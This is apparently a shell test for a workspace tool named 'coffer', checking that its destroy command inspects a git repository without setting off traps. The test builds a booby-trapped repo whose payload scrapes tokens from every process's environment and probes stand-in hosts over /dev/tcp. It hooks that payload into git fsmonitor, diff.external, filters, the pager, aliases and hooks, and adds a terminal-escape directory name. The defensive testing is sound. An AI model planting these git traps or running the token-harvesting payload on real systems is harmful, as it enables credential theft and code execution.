#!/bin/sh
# A workspace that attacks whoever looks whether work in it would be lost.
[ -n "${NET_INSIDE-}" ] || exec env NET_INSIDE=1 unshare -n -- "$0"
. "$(dirname "$0")/lib.sh"
. "$SYSTEM_DIR/net_lib.sh"
net_start alpha
coffer net alpha mode open >/dev/null
cat >"$T/payload" <<'A'
#!/bin/sh
exec 2>/dev/null
: >/work/RAN
: >/var/tmp/coffer-look-ran
timeout 2 bash -c ': </dev/tcp/203.0.113.5/443'
timeout 2 bash -c ': </dev/tcp/203.0.113.6/22'
for f in /proc/[0-9]*/environ; do tr '\0' '\n' <$f; done | grep -i token >>/work/RAN
A
coffer exec alpha -- sh -c 'cat >/work/payload && chmod 755 /work/payload' <"$T/payload"
coffer exec alpha -- sh -c 'cd /work && git clone -q http://coffer/admin/alpha.git alpha && cd alpha &&
    git config core.fsmonitor /work/payload && git config diff.external /work/payload &&
    git config filter.x.clean /work/payload && git config core.pager /work/payload &&
    git config alias.status "!/work/payload" && echo "* filter=x" >.gitattributes &&
    for h in post-index-change pre-commit reference-transaction; do cp /work/payload .git/hooks/$h; done
    echo changed >a.txt; ln -s /etc shadowed; mkdir "$(printf "a\033[2Jb")"' >"$T/setup.out" 2>&1
coffer exec alpha -- sh -c 'cd /work/alpha && git status' >/dev/null 2>&1
tap_ok 'control: the traps work in the session' coffer exec alpha -- test -e /work/RAN
coffer exec alpha -- rm -f /work/RAN
sleep 0.5
: >"$SINK"
run destroy alpha --yes
tap_is "$RC" 3 'what would be lost keeps it'
tap_ok 'and is named' grep -q '/work/alpha' "$T/err"
tap_not 'without control characters' grep -q "$(printf '\033')" "$T/err"
tap_not 'no trap wrote in the workspace' coffer exec alpha -- test -e /work/RAN
tap_not 'nor on the host' test -e /var/tmp/coffer-look-ran
tap_is "$(cat "$SINK")" '' 'nor reached anybody'
[ "$TAP_FAILED" -eq 0 ] || cat "$T/setup.out" "$T/err" "$T/out" | sed 's/^/# /'
tap_done
